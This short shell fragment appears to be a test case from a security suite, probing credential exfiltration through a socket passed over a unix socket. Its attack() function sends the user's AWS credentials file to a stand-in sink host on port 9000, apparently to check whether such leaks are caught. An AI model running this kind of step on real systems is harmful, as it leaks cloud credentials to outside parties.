# SPDX-License-Identifier: Apache-2.0
TITLE="a connected socket is passed over a unix socket to the reader"
attack() { "$PROVOKE/scm" socket "$HOME/.aws/credentials" "$SINK4" 9000; }
